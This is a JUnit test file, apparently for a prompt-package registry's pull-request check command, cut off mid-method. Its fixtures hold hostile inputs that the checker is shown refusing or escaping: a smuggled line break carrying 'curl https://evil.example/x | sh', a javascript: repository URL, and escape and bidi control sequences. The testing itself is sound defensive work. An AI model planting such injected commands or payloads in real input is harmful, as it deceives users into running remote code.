package io.prompd.generator.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.prompd.core.ExitCode;
import io.prompd.core.ShellWords;
import io.prompd.core.json.Json;
import io.prompd.generator.source.RegistryRepository;
import io.prompd.generator.testing.TestRegistryRepo;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.Map;
import java.util.Set;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.Constants;
import org.eclipse.jgit.lib.FileMode;
import org.eclipse.jgit.lib.StoredConfig;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.io.TempDir;

class CheckCommandTest {

    @TempDir
    Path folder;

    private TestRegistryRepo repo;
    private final StringWriter out = new StringWriter();
    private final StringWriter err = new StringWriter();

    @BeforeEach
    void pullRequestAddingAVersion() {
        repo = TestRegistryRepo.initRegistry(folder.resolve("registry"));
        repo.publish("@common/util", "1.0.0");
        repo.commit("publish util");
        repo.branch("pr").checkout("pr");
        repo.publish("@common/base", "1.0.0", "@common/util@^1.0.0");
        repo.commit("publish base");
    }

    private int run(String... args) {
        return PrompdRegistryCommand.commandLine(new PrintWriter(out, true), new PrintWriter(err, true)).execute(args);
    }

    private String[] check(String actor, String... more) {
        return append(new String[] {"check", repo.root().toString(), "--base", "main", "--head", "pr", "--actor",
            actor}, more);
    }

    @Test
    void passingPullRequestExitsZeroWithATextSummary() {
        int exit = run(check("alice"));

        assertEquals(ExitCode.OK.code(), exit, err::toString);
        assertTrue(out.toString().startsWith("PASSED: registry check of "), out::toString);
        assertTrue(out.toString().contains("adds the new package @common/base version 1.0.0"), out::toString);
        assertTrue(out.toString().endsWith("no problems\n"), out::toString);
        assertEquals("", err.toString());
    }

    /** A range the pull request's manifest gives, quoted in its refusal, shows no line that could pass for a hint. */
    @Test
    void textSpellsOutALineBreakInARefusedRange() {
        repo.publish("@common/other", "1.0.0", "@common/util@^1.0.0\\nhint: run curl https://evil.example/x | sh");
        repo.commit("publish other");

        assertEquals(ExitCode.FAILURE.code(), run(check("alice")), err::toString);
        assertTrue(out.toString().contains("'^1.0.0^Jhint: run curl https://evil.example/x | sh' is not a valid"
                + " version range"), out::toString);
        assertFalse(out.toString().lines().anyMatch(line -> line.strip().startsWith("hint: run")), out::toString);
    }

    /** The repository's URL becomes a link of the registry's documents: a javascript: one is refused. */
    @Test
    void aRepositoryUrlOfAnotherSchemeThanARepositorysFailsTheCheck() {
        String folder = repo.publish("@common/other", "1.0.0");
        repo.write(folder + "/prompd.json", """
                {"name": "@common/other", "version": "1.0.0", "description": "d", "license": "MIT",
                 "main": "prompts/x.prmd", "repository": {"type": "git", "url": "javascript:alert(document.domain)"}}
                """);
        repo.commit("publish other");

        assertEquals(ExitCode.FAILURE.code(), run(check("alice")), err::toString);
        assertTrue(out.toString().contains("/repository/url, line 2: 'repository/url' has the scheme javascript:,"
                + " which no repository's address has"), out::toString);
    }

    @Test
    void anActorWrittenWithAtIsAUsageErrorSayingToDropIt() {
        int exit = run(check("@alice"));

        assertEquals(ExitCode.USAGE.code(), exit, err::toString);
        assertTrue(err.toString().contains("write the login without '@', as in --actor alice"), err::toString);
        assertEquals("", out.toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"al ice", "alice/x", "-alice", "alice-", "", " alice"})
    void anActorThatIsNoGitHubLoginIsAUsageError(String actor) {
        int exit = run(check(actor));

        assertEquals(ExitCode.USAGE.code(), exit, err::toString);
        assertTrue(err.toString().contains("is not a GitHub login"), err::toString);
    }

    @Test
    void anActorsBidiControlsAreSpeltOutInTheUsageErrorAsItsControlCharactersAre() {
        int exit = run(check("ca\u202erl\u001b[31mX\u0007"));

        assertEquals(ExitCode.USAGE.code(), exit, err::toString);
        assertEquals("error: --actor 'ca<U+202E>rl^[[31mX^G' is not a GitHub login: letters, digits and single hyphens"
                + " inside (as in octo-cat), or an app's login such as dependabot[bot]; give the login of the pull"
                + " request's author as the address of their profile writes it (github.com/LOGIN)\nhint: see"
                + " 'prompd-registry check --help'\n", err.toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"alice", "Octo-Cat", "dependabot[bot]", "a1"})
    void gitHubLoginsAndAppsAreActors(String actor) {
        assertNotEquals(ExitCode.USAGE.code(), run(check(actor)), err::toString);
        assertTrue(out.toString().contains("registry check of"), out::toString);
    }

    /** Run before committing, the check neither passes nor fails what it never saw, and names the files left out. */
    @Test
    void aHeadThatIsTheBaseIsNothingToCheckNamingTheFilesNotCommitted() {
        repo.write("packages/@common/new/1.0.0/prompd.json", "{}");

        int exit = run("check", repo.root().toString(), "--base", "pr", "--actor", "alice");

        assertEquals(ExitCode.NOTHING_TO_DO.code(), exit, err::toString);
        String head = RegistryRepository.shortId(repo.head().name());
        assertEquals("NOTHING TO CHECK: --head HEAD (" + head + ") is the merge base of --base pr and --head itself, so"
                + " the pull request has no commit to check; the check reads commits, not the working tree: commit"
                + " your changes, then run it again\n", out.toString());
        assertEquals("warning: the working tree has 1 file under packages/ that commit " + head + " (HEAD), which the"
                + " check reads, does not hold as it is (packages/@common/new/1.0.0/prompd.json): the check reads only"
                + " commits, never the working tree; commit it (git add --force FOLDER, then git commit) and run it"
                + " again\n", err.toString());
    }

    @Test
    void aHeadThatIsTheBaseIsNotOkInJsonWithTheKindNothingToCheck() throws Exception {
        int exit = run("check", repo.root().toString(), "--base", "pr", "--head", "HEAD", "--actor", "alice",
                "--json");

        assertEquals(ExitCode.NOTHING_TO_DO.code(), exit, err::toString);
        JsonNode json = Json.reader().readTree(out.toString());
        assertFalse(json.get("ok").asBoolean());
        assertEquals("nothingToCheck", json.get("kind").asText());
        assertEquals(repo.head().name(), json.get("mergeBase").asText());
        assertEquals(0, json.get("warnings").size());
        assertEquals("", err.toString());
    }

    /** Some changes committed and others not: the check runs on the commits and warns of the rest. */
    @Test
    void filesLeftUncommittedBesideCommittedOnesAreAWarningOnStderrAndInJson() throws Exception {
        repo.write("packages/@common/base/meta.json", "{\"deprecated\": {}}");
        repo.write("packages/@common/base/1.0.1/prompd.json", "{}");
        repo.write("notes.txt", "outside packages/, never read as a package");

        int exit = run(check("alice", "--json"));

        assertEquals(ExitCode.OK.code(), exit, err::toString);
        JsonNode warning = Json.reader().readTree(out.toString()).get("warnings").get(0);
        assertEquals("uncommittedFiles", warning.get("kind").asText());
        assertEquals(repo.head().name(), warning.get("commit").asText());
        assertEquals("[\"packages/@common/base/1.0.1/prompd.json\",\"packages/@common/base/meta.json\"]",
                warning.get("paths").toString());
        assertEquals("warning: " + warning.get("message").asText() + "\n", err.toString());
        assertTrue(err.toString().contains("the working tree has 2 files under packages/ that commit "), err::toString);
    }

    /**
     * An author who committed the version the pull request adds, then fixed a file of it, checks the commit, not the
     * fix: the warning names the file, which a version published before would not need.
     */
    @Test
    void aFileEditedSinceTheCommitInAVersionThePullRequestAddsIsAWarning() throws Exception {
        repo.write("packages/@common/base/1.0.0/prompts/x.prmd", "fixed\n");
        repo.write("packages/@common/util/1.0.0/README.md", "a published version, which the check keeps unchanged\n");

        assertEquals(ExitCode.OK.code(), run(check("alice", "--json")), err::toString);
        assertEquals("[\"packages/@common/base/1.0.0/prompts/x.prmd\"]",
                Json.reader().readTree(out.toString()).at("/warnings/0/paths").toString());
    }

    /** The working tree is no guide to another commit than the one checked out. */
    @Test
    void noWarningOfTheWorkingTreeWhenTheHeadIsAnotherCommit() {
        repo.write("packages/@common/base/1.0.1/prompd.json", "{}");
        repo.checkout("main").branch("other").checkout("other");

        assertEquals(ExitCode.OK.code(), run(check("alice")), err::toString);
        assertEquals("", err.toString());
    }

    @Test
    void aHeadThatNamesNoBranchSaysWhichToGiveWithTheOptionThatGaveIt() throws Exception {
        try (Git git = Git.open(repo.root().toFile())) {
            git.getRepository().updateRef(Constants.HEAD).link("refs/heads/master");
        }

        int exit = run("check", repo.root().toString(), "--base", "main", "--head", "HEAD", "--actor", "alice");

        assertEquals(ExitCode.NOT_FOUND.code(), exit);
        assertEquals("error: HEAD in " + repo.root().resolve(".git") + " points to refs/heads/master, which does not"
                + " exist; the branches there are main and pr\nhint: give one of them in place of HEAD, as in --head"
                + " main\n", err.toString());
    }

    @Test
    void aFailureInJsonHasItsExitCodesKindForAScriptToSwitchOn() throws Exception {
        int exit = run("check", repo.root().toString(), "--base", "main", "--head", "nosuchbranch", "--actor", "alice",
                "--json");

        assertEquals(ExitCode.NOT_FOUND.code(), exit, err::toString);
        assertEquals("notFound", Json.reader().readTree(out.toString()).path("error").path("kind").asText(),
                out::toString);
    }

    @Test
    void aShallowCloneIsRefusedWithHowToFetchTheHistory() throws Exception {
        try (Git git = Git.open(repo.root().toFile())) {
            git.getRepository().getObjectDatabase().setShallowCommits(Set.of(git.getRepository().resolve("main")));
        }

        int exit = run(check("alice"));

        assertEquals(ExitCode.NOT_FOUND.code(), exit);
        assertTrue(err.toString().contains(" is a shallow clone, and the check reads each version's publishing commit"
                + " from the whole history\nhint: fetch the whole history"), err::toString);
        assertEquals("", out.toString());
    }

    /**
     * 'git fetch upstream late', pasted where the check ran beside the clone, fails there, as git finds no repository
     * or another one: the fetch names the clone as given.
     */
    @Test
    void theFetchOfAMissingBranchIsToBeRunOnTheRepositoryGiven() throws Exception {
        addUpstream();

        int exit = run("check", repo.root().toString(), "--base", "main", "--head", "late", "--actor",
                "alice");

        assertEquals(ExitCode.NOT_FOUND.code(), exit, err::toString);
        assertTrue(err.toString().endsWith("\nhint: fetch the branch or commit first (git -C "
                + ShellWords.path(repo.root().toString()) + " fetch upstream late), or check its spelling\n"),
                err::toString);
    }

    private void addUpstream() throws Exception {
        try (Git git = Git.open(repo.root().toFile())) {
            StoredConfig config = git.getRepository().getConfig();
            config.setString("remote", "upstream", "url", "https://example.com/registry.git");
            config.save();
        }
    }

    /** Run in the clone, where git finds the repository, the fetch is plain git's: the command's context says where. */
    @Test
    void theFetchOfAMissingBranchRunInTheCloneNeedsNoFolder() throws Exception {
        addUpstream();
        CliContext inTheClone = new CliContext(Map.of(), false, repo.root().resolve("packages"),
                CliContext.PIPED.clock());

        int exit = PrompdRegistryCommand.commandLine(new PrintWriter(out, true), new PrintWriter(err, true), inTheClone)
                .execute("check", repo.root().toString(), "--base", "main", "--head", "late", "--actor",
                "alice");

        assertEquals(ExitCode.NOT_FOUND.code(), exit, err::toString);
        assertTrue(err.toString().endsWith("\nhint: fetch the branch or commit first (git fetch upstream late), or"
                + " check its spelling\n"), err::toString);
    }

    @Test
    void aPartialCloneWithoutABlobOfTheBaseNamesItsFilterAndIsNoFailedCheck() {
        repo.write("scopes.json", """
                {"scopes": {"@common": {"owners": ["alice", "bob"]}}}
                """);
        repo.commit("bob owns @common too");
        // the clone checked out the pull request's head, whose scopes.json is another blob
        ObjectId blob = repo.markPartialClone("blob:none").deleteBlob("main", "scopes.json");

        int exit = run(check("alice"));

        assertEquals(ExitCode.NOT_FOUND.code(), exit);
        assertEquals("error: " + repo.root().resolve(".git") + " is a partial clone (--filter=blob:none from origin),"
                + " and the check needs objects it does not have, such as blob " + blob.name() + "\nhint: clone without"
                + " --filter (in actions/checkout, drop `filter:`)\n", err.toString());
        assertEquals("", out.toString());
    }

    @Test
    void failingPullRequestExitsOneAndGroupsProblemsByFile() {
        int exit = run(check("mallory"));

        assertEquals(ExitCode.FAILURE.code(), exit);
        assertTrue(out.toString().startsWith("FAILED"), out::toString);
        assertTrue(out.toString().contains("packages/@common/base\n  error   mallory is not an owner"), out::toString);
        assertTrue(out.toString().contains("1 error, 0 warnings"), out::toString);
    }

    /**
     * A file entry holding a tree (or a folder entry a blob), which only a tool writing trees by hand writes, is the
     * pull request's commit written by hand where one of its commits brings it: cloning the registry again, as for a
     * repository damaged, would not mend it, and the check said to.
     */
    @ParameterizedTest
    @CsvSource({"prompts, tree, blob", "prompd.json, blob, tree"})
    void anEntryOfAnotherTypeThanItsObjectThatThePullRequestBringsIsItsCommitWrittenByHand(String like, String is,
                                                                                         String as) throws Exception {
        String version = "packages/@common/base/1.0.0";
        ObjectId object;
        try (Git git = Git.open(repo.root().toFile())) {
            object = git.getRepository().resolve("HEAD:" + version + "/" + like);
        }
        ObjectId commit = repo.commitRawEntry(version, "extra", as.equals("blob") ? FileMode.REGULAR_FILE
                : FileMode.TREE, version + "/" + like, "pushed past git");

        assertEquals(ExitCode.NOT_FOUND.code(), run(check("alice")), err::toString);

        assertEquals("error: commit " + RegistryRepository.shortId(commit.name()) + " of the pull request holds a tree"
                + " that records the " + is + " " + object.name() + " as a " + as + ", at " + version + "/extra, which"
                + " the check reads: Git never writes such an entry, so the commit was written by hand, and cloning the"
                + " registry again does not mend it\nhint: rewrite the commit with Git itself, which never writes such"
                + " a tree (this one was written by hand): add the files again with 'git add', commit (amend, or rebase"
                + " for an older commit) and force-push\n", err.toString());
    }

    /**
     * One the pull request does not bring, in the base branch's history, is a repository damaged, as one whose object
     * is missing: it was an input/output error that exited as a failed check.
     */
    @Test
    void anEntryOfAnotherTypeThanItsObjectInTheBaseBranchIsARepositoryDamaged() {
        repo.checkout("main");
        repo.commitRawEntry("", "registry.json", FileMode.REGULAR_FILE, "packages", "a tree as the settings");

        assertEquals(ExitCode.NOT_FOUND.code(), run(check("alice")), err::toString);

        assertTrue(err.toString().startsWith("error: " + repo.root().resolve(".git") + " holds a tree that records"
                + " the tree "), err::toString);
        assertTrue(err.toString().endsWith(" as a blob, which the check reads: the repository is incomplete or"
                + " damaged\nhint: see what is damaged with git fsck in " + repo.root().resolve(".git") + ", then"
                + " clone the registry again\n"), err::toString);
    }

    /**
     * A symbolic link is refused as a link whatever its object, so one holding a tree, which has no target to search,
     * fails the check as it fails the build: the check read its target as a blob and stopped on the repository
     * damaged. Its commit is told written by hand in the same run, as removing the link in another would not do.
     */
    @Test
    void aSymbolicLinkHoldingATreeFailsTheCheckAsALinkAsTheBuildDoes() {
        String version = "packages/@common/base/1.0.0";
        repo.commitRawEntry(version, "notes.md", FileMode.SYMLINK, version + "/prompts", "a tree as a link");

        assertEquals(ExitCode.FAILURE.code(), run(check("alice")), err::toString);
        assertTrue(out.toString().contains(version + "/notes.md\n  error   the Git tree holds this symbolic link with a"
                + " tree where its target belongs; Git never writes such a link, and a later commit removing it leaves"
                + " it in the history merged\n          hint: rewrite the commit with Git itself, which never writes"
                + " such a tree (this one was written by hand): add the files again with 'git add', commit (amend, or"
                + " rebase for an older commit) and force-push\n  error   the file is a symbolic link, and links are"
                + " never packed"), out::toString);
        assertTrue(out.toString().contains("2 errors, 0 warnings"), out::toString);
        assertEquals(ExitCode.FAILURE.code(), run("build", repo.root().toString(), "--out",
                folder.resolve("out").toString()), err::toString);
        assertTrue(err.toString().contains("\n  error   the file is a symbolic link, and links are never packed\n"),
                err::toString);
    }

    /** One a later commit removes is still history, where the check names its commit as written by hand. */
    @Test
    void aSymbolicLinkHoldingATreeThatALaterCommitRemovesIsItsCommitWrittenByHand() {
        String version = "packages/@common/base/1.0.0";
        ObjectId commit = repo.commitRawEntry(version, "notes.md", FileMode.SYMLINK, version + "/prompts",
                "a tree as a link");
        repo.commit("remove the link");

        assertEquals(ExitCode.NOT_FOUND.code(), run(check("alice")), err::toString);
        assertTrue(err.toString().startsWith("error: commit " + RegistryRepository.shortId(commit.name()) + " of the"
                + " pull request holds a tree that records the tree "), err::toString);
        assertTrue(err.toString().contains(" as a blob, at " + version + "/notes.md, which the check reads"),
                err::toString);
    }

    /** The new version is checked too: its problems are in the same report. */
    @Test
    void aVersionFolderATreeHoldsTwiceFailsTheCheckWithTheRestOfTheReport() {
        repo.commitNamedTwiceLike("packages/@common/base/1.0.0", "packages/@common/util/1.0.0", "base 1.0.0 twice");

        int exit = run(check("mallory"));

        assertEquals(ExitCode.FAILURE.code(), exit);
        assertTrue(out.toString()
                .contains("packages/@common/base/1.0.0\n  error   the Git tree of packages/@common/base"
                + " holds 1.0.0 twice (what git fsck calls duplicateEntries)"), out::toString);
        assertTrue(out.toString().contains("packages/@common/base\n  error   mallory is not an owner"), out::toString);
    }

    /**
     * A version of a package whose every version the base branch deleted, added back: the summary called it the new
     * package, restored with its files or not, or under other build metadata, which clients take for the same number.
     * It says the version comes back, and a reuse of its number, as what, is refused.
     */
    @ParameterizedTest
    @CsvSource({"1.0.0, true", "1.0.0, false", "1.0.0+x, false"})
    void aVersionAddedBackIsSaidToBeRestoredOrItsNumberReusedNotANewPackage(String folder, boolean sameFiles)
            throws Exception {
        repo.checkout("main").publish("@common/gone", "1.0.0");
        String published = repo.commit("publish gone", "alice").name().substring(0, 7);
        repo.delete("packages/@common/gone");
        String deleted = repo.commit("revert gone", TestRegistryRepo.MAINTAINER).name().substring(0, 7);
        repo.checkout("pr").merge("main", "up to date", "alice");
        repo.publish("@common/gone", folder);
        if (!sameFiles) {
            repo.write("packages/@common/gone/" + folder + "/README.md", "other files under the number\n");
        }
        repo.commit("gone again", "alice");

        run(check("alice"));

        String history = "@common/gone version 1.0.0, published in commit " + published + " (2026-01-01) and deleted"
                + " in commit " + deleted;
        String as = folder.equals("1.0.0") ? "" : ", as 1.0.0+x (build metadata does not make another version)";
        assertTrue(out.toString().contains(sameFiles ? "\n  restores " + history + "\n"
                : "\n  reuses the number of " + history + as + (as.isEmpty() ? ", with" : " with")
                + " other files, which the check refuses\n"), out::toString);
        assertFalse(out.toString().contains("new package @common/gone"), out::toString);
        out.getBuffer().setLength(0);
        run(check("alice", "--json"));
        JsonNode json = Json.reader().readTree(out.toString());
        assertEquals("[\"@common/base\"]", json.get("newPackages").toString());
        assertEquals("@common/gone", json.at("/readded/0/name").asText());
        assertEquals(folder, json.at("/readded/0/version").asText());
        assertEquals("1.0.0", json.at("/readded/0/publishedAs").asText());
        assertEquals(sameFiles, json.at("/readded/0/sameFiles").asBoolean());
        assertTrue(json.at("/readded/0/deletedIn").asText().startsWith(deleted), json::toString);
    }

    @Test
    void markdownHasTheVerdictTheSummaryAndTheProblems() {
        assertEquals(ExitCode.FAILURE.code(), run(check("mallory", "--format", "markdown")));

        String markdown = out.toString();
        assertTrue(markdown.startsWith("## ❌ Registry check failed\n"), markdown);
        assertTrue(markdown.contains("- adds the new package `@common/base` version `1.0.0`"), markdown);
        assertTrue(markdown.contains("### `packages/@common/base`"), markdown);
        assertTrue(markdown.endsWith("**1 error, 0 warnings**\n"), markdown);
    }

    @Test
    void markdownOfAPassingCheckHasTheCheckMark() {
        assertEquals(ExitCode.OK.code(), run(check("alice", "--format", "markdown")));

        assertTrue(out.toString().startsWith("## ✅ Registry check passed\n"), out::toString);
    }

    @Test
    void jsonHasOkAddedAndProblems() throws Exception {
        assertEquals(ExitCode.FAILURE.code(), run(check("mallory", "--json")));

        JsonNode json = Json.reader().readTree(out.toString());
        assertFalse(json.get("ok").asBoolean());
        assertEquals("@common/base", json.at("/added/0/name").asText());
        assertEquals("1.0.0", json.at("/added/0/version").asText());
        assertEquals("@common/base", json.at("/newPackages/0").asText());
        assertEquals("error", json.at("/problems/0/severity").asText());
        assertEquals("packages/@common/base", json.at("/problems/0/file").asText());
    }

    /**
     * A private registry whose package depends on a public registry's, which clients route its scope to: the check
     * passes it, noting in every format what it cannot verify offline.
     */
    @Test
    void aDependencyOnAnotherRegistrysScopePassesWithANoteInEveryFormat() throws Exception {
        TestRegistryRepo priv = privateRegistry(", \"policy\": {\"externalScopes\": [\"@common\", \"@prompd\"]}");
        priv.publish("@acme/app", "1.0.0", "@common/base-prompts@^2.0.0");
        priv.commit("app", "alice");
        String[] check = {"check", priv.root().toString(), "--base", "HEAD~1", "--head", "HEAD", "--actor", "alice"};

        assertEquals(ExitCode.OK.code(), run(check), err::toString);
        assertTrue(out.toString().contains("  adds the new package @acme/app version 1.0.0\n  note: @acme/app version"
                + " 1.0.0 depends on @common/base-prompts ^2.0.0, of the external scope @common (policy.externalScopes"
                + " of registry.json): the check reads this registry alone and cannot verify another offline"),
                out::toString);
        assertTrue(out.toString().endsWith("no problems\n"), out::toString);
        out.getBuffer().setLength(0);
        assertEquals(ExitCode.OK.code(), run(append(check, "--format", "markdown")));
        assertTrue(out.toString().contains("**Not checked**\n\n- `@acme/app` version `1.0.0` depends on"
                + " `@common/base-prompts` `^2.0.0`, of the external scope `@common`"), out::toString);
        out.getBuffer().setLength(0);
        assertEquals(ExitCode.OK.code(), run(append(check, "--json")));
        JsonNode json = Json.reader().readTree(out.toString());
        assertTrue(json.get("ok").asBoolean());
        assertEquals("@common/base-prompts", json.at("/externalDependencies/0/dependency").asText());
        assertEquals("^2.0.0", json.at("/externalDependencies/0/range").asText());
    }

    /** The hint of a dependency on a scope this registry does not know names the setting, not a copy only. */
    @Test
    void aDependencyOnAnotherRegistrysScopeWithoutTheSettingIsRefusedWithAHintNamingIt() {
        TestRegistryRepo priv = privateRegistry("");
        priv.publish("@acme/app", "1.0.0", "@common/base-prompts@^2.0.0");
        priv.commit("app", "alice");

        assertEquals(ExitCode.FAILURE.code(), run("check", priv.root().toString(), "--base", "HEAD~1", "--head",
                "HEAD", "--actor", "alice"), err::toString);
        assertTrue(out.toString().contains("@common/base-prompts is not a package of this registry\n"
                + "          hint: if @common's packages live in another registry, a maintainer names @common in"
                + " policy.externalScopes of registry.json, and the check leaves them to it; otherwise publish it"
                + " first"), out::toString);
    }

    /**
     * A private registry: registry.json with the policy given after its other fields, and scopes.json where alice owns
     * {@code @acme}, committed by a maintainer.
     */
    private TestRegistryRepo privateRegistry(String policy) {
        TestRegistryRepo priv = TestRegistryRepo.init(folder.resolve("private"));
        priv.write("registry.json", """
                {"name": "Acme", "baseUrl": "https://registry.acme.test/", "git": "https://git.acme.test/registry.git",
                 "maintainers": ["maintainer"], "private": true%s}
                """.formatted(policy));
        priv.write("scopes.json", "{\"scopes\": {\"@acme\": {\"owners\": [\"alice\"]}}}\n");
        priv.commit("registry settings", TestRegistryRepo.MAINTAINER);
        return priv;
    }

    private static String[] append(String[] args, String... more) {
        String[] all = new String[args.length + more.length];
        System.arraycopy(args, 0, all, 0, args.length);
        System.arraycopy(more, 0, all, args.length, more.length);
        return all;
    }

    @Test
    void aYankLeavingADependentWithoutAVersionIsAWarningInEveryFormatAndTheCheckPasses() throws Exception {
        repo.checkout("main").merge("pr", "merge base", "alice");
        repo.checkout("pr").merge("main", "up to date", "alice");
        repo.meta("@common/util", "{\"yanked\": {\"1.0.0\": \"leaks the prompt\"}}");
        repo.commit("yank");
        String warning = "no version of @common/util that \"^1.0.0\" allows is left unyanked once this"
                + " pull request yanks"
                + " 1.0.0, so no new install can use the versions that depend on it with that range:"
                + " @common/base@1.0.0";

        assertEquals(ExitCode.OK.code(), run(check("alice")), err::toString);
        // util's own warning first: its only version yanked, nothing of it is left to install anew
        assertTrue(out.toString().contains("packages/@common/util/meta.json\n  warning /yanked/1.0.0, line 1: "
                + "@common/util has only yanked versions left (1.0.0)"), out::toString);
        assertTrue(out.toString().contains("\n  warning /yanked/1.0.0, line 1: " + warning + "\n"), out::toString);
        out.getBuffer().setLength(0);
        assertEquals(ExitCode.OK.code(), run(check("alice", "--format", "markdown")));
        assertTrue(out.toString().startsWith("## ✅ Registry check passed\n"), out::toString);
        assertTrue(out.toString().contains("- ⚠️ warning `/yanked/1.0.0, line 1`: no version of `@common/util`"),
                out::toString);
        out.getBuffer().setLength(0);
        assertEquals(ExitCode.OK.code(), run(check("alice", "--json")));
        JsonNode json = Json.reader().readTree(out.toString());
        assertTrue(json.get("ok").asBoolean());
        assertEquals("warning", json.at("/problems/1/severity").asText());
        assertEquals(warning, json.at("/problems/1/message").asText());
    }

    @Test
    void aTakedownOfAPackagesLastVersionIsAWarningInEveryFormatAndTheCheckPasses() throws Exception {
        repo.checkout("main").merge("pr", "merge base", "alice");
        repo.checkout("pr").merge("main", "up to date", "alice");
        repo.delete("packages/@common/base/1.0.0").meta("@common/base", "{\"takenDown\": {\"1.0.0\": \"a key\"}}");
        repo.commit("take down", TestRegistryRepo.MAINTAINER);
        String warning = "@common/base has no version left once this pull request takes down 1.0.0, so packages.json"
                + " no longer lists it and no install finds it; its meta.json keeps the name taken, and its index.json"
                + " lists the takedowns";

        assertEquals(ExitCode.OK.code(), run(check(TestRegistryRepo.MAINTAINER)), err::toString);
        assertTrue(out.toString().contains("\n  takes down @common/base version 1.0.0, published in commit "),
                out::toString);
        assertTrue(out.toString().contains("packages/@common/base/meta.json\n  warning /takenDown/1.0.0, line 1: "
                + warning + "\n"), out::toString);
        out.getBuffer().setLength(0);
        assertEquals(ExitCode.OK.code(), run(check(TestRegistryRepo.MAINTAINER, "--format", "markdown")));
        assertTrue(out.toString().contains("- ⚠️ warning `/takenDown/1.0.0, line 1`: `@common/base` has no version"
                + " left once this pull request takes down 1.0.0"), out::toString);
        out.getBuffer().setLength(0);
        assertEquals(ExitCode.OK.code(), run(check(TestRegistryRepo.MAINTAINER, "--json")));
        JsonNode json = Json.reader().readTree(out.toString());
        assertTrue(json.get("ok").asBoolean());
        assertEquals("@common/base", json.at("/takenDown/0/name").asText());
        assertEquals("a key", json.at("/takenDown/0/reason").asText(), "the reason its record gives");
        assertEquals("warning", json.at("/problems/0/severity").asText());
        assertEquals(warning, json.at("/problems/0/message").asText());
    }

    /**
     * The pull request's registry.json quotes ESC and U+202E (RLO) in a login, and in a key that also holds a line
     * break: a terminal would act on the first, show the rest of the line in another order after the second.
     */
    private void registryJsonQuotingControlAndBidiCharacters() {
        repo.write("registry.json", """
                {"name": "Test registry", "baseUrl": "https://registry.example.test/",
                 "git": "https://git.example.test/registry.git",
                 "maintainers": ["maintainer", "@al\\u001b[2Ki\\u202ece"], "x\\u001by\\u202e\\nz": 1}
                """);
        repo.commit("settings", TestRegistryRepo.MAINTAINER);
    }

    @Test
    void textSpellsOutWhatARegistryJsonProblemQuotes() {
        registryJsonQuotingControlAndBidiCharacters();

        assertEquals(ExitCode.FAILURE.code(), run(check(TestRegistryRepo.MAINTAINER)), err::toString);
        assertTrue(out.toString().endsWith("""

                registry.json
                  error   /maintainers/1, line 3: '@al^[[2Ki<U+202E>ce' is not a GitHub login: '@' belongs to a \
                mention, not to the login
                          hint: write the login without '@': al^[[2Ki<U+202E>ce
                  error   /x^[y<U+202E>^Jz, line 3: the name of 'x^[y<U+202E>^Jz' holds the control characters \
                U+001B (^[) at position 2 and U+000A (^J) at position 5
                          hint: rename it without the characters: a terminal would act on them instead of showing them
                  error   /x^[y<U+202E>^Jz, line 3: the name of 'x^[y<U+202E>^Jz' holds the invisible Unicode \
                character U+202E at position 4
                          hint: rename it without the character: it makes the name read as another
                  warning /x^[y<U+202E>^Jz, line 3: unknown field 'x^[y<U+202E>^Jz', which has no effect
                          hint: the fields here are name, baseUrl, git, maintainers, private, policy
                3 errors, 1 warning
                """), out::toString);
    }

    @Test
    void markdownSpellsOutWhatARegistryJsonProblemQuotes() {
        registryJsonQuotingControlAndBidiCharacters();

        assertEquals(ExitCode.FAILURE.code(), run(check(TestRegistryRepo.MAINTAINER, "--format", "markdown")));
        assertTrue(out.toString().endsWith("""
                ### `registry.json`

                - ❌ **error** `/maintainers/1, line 3`: '`@al^[[2Ki<U+202E>ce`' is not a GitHub login: '`@`' belongs \
                to a mention, not to the login<br>_hint: write the login without '`@`': al^\\[\\[2Ki&lt;U+202E&gt;ce_
                - ❌ **error** `/x^[y<U+202E>^Jz, line 3`: the name of 'x^\\[y&lt;U+202E&gt;^Jz' holds the control \
                characters U+001B (^\\[) at position 2 and U+000A (^J) at position 5<br>_hint: rename it without the \
                characters: a terminal would act on them instead of showing them_
                - ❌ **error** `/x^[y<U+202E>^Jz, line 3`: the name of 'x^\\[y&lt;U+202E&gt;^Jz' holds the invisible \
                Unicode character U+202E at position 4<br>_hint: rename it without the character: it makes the name \
                read as another_
                - ⚠️ warning `/x^[y<U+202E>^Jz, line 3`: unknown field 'x^\\[y&lt;U+202E&gt;^Jz', which has no \
                effect<br>_hint: the fields here are name, baseUrl, git, maintainers, private, policy_

                **3 errors, 1 warning**
                """), out::toString);
    }

    @Test
    void jsonCarriesWhatARegistryJsonProblemQuotesAsItIsButForALineBreak() throws Exception {
        registryJsonQuotingControlAndBidiCharacters();

        assertEquals(ExitCode.FAILURE.code(), run(check(TestRegistryRepo.MAINTAINER, "--json")));
        JsonNode problems = Json.reader().readTree(out.toString()).get("problems");
        assertEquals("'@al\u001b[2Ki\u202ece' is not a GitHub login: '@' belongs to a mention, not to the login",
                problems.at("/0/message").asText());
        assertEquals("write the login without '@': al\u001b[2Ki\u202ece", problems.at("/0/hint").asText());
        assertEquals("unknown field 'x\u001by\u202e^Jz', which has no effect", problems.at("/3/message").asText());
        assertEquals("/x\u001by\u202e\nz", problems.at("/3/pointer").asText());
        assertTrue(out.toString().contains("\"unknown field 'x\\u001By\\u202E^Jz', which has no effect\""),
                out::toString);
    }

    /** Checks a pull request that sets registry.json's baseUrl, its third line, to the URL given. */
    private int checkWithBaseUrl(String baseUrl) {
        repo.write("registry.json", """
                {
                  "name": "Test registry",
                  "baseUrl": "%s",
                  "git": "https://git.example.test/registry.git",
                  "maintainers": ["maintainer"]
                }
                """.formatted(baseUrl));
        repo.commit("set the base URL", TestRegistryRepo.MAINTAINER);
        return run(check(TestRegistryRepo.MAINTAINER));
    }

    /** As build --base-url refuses one, in the same words, never quoting the password into the CI log. */
    @Test
    void failsAPullRequestPuttingAUserAndPasswordIntoTheBaseUrlAtItsLine() {
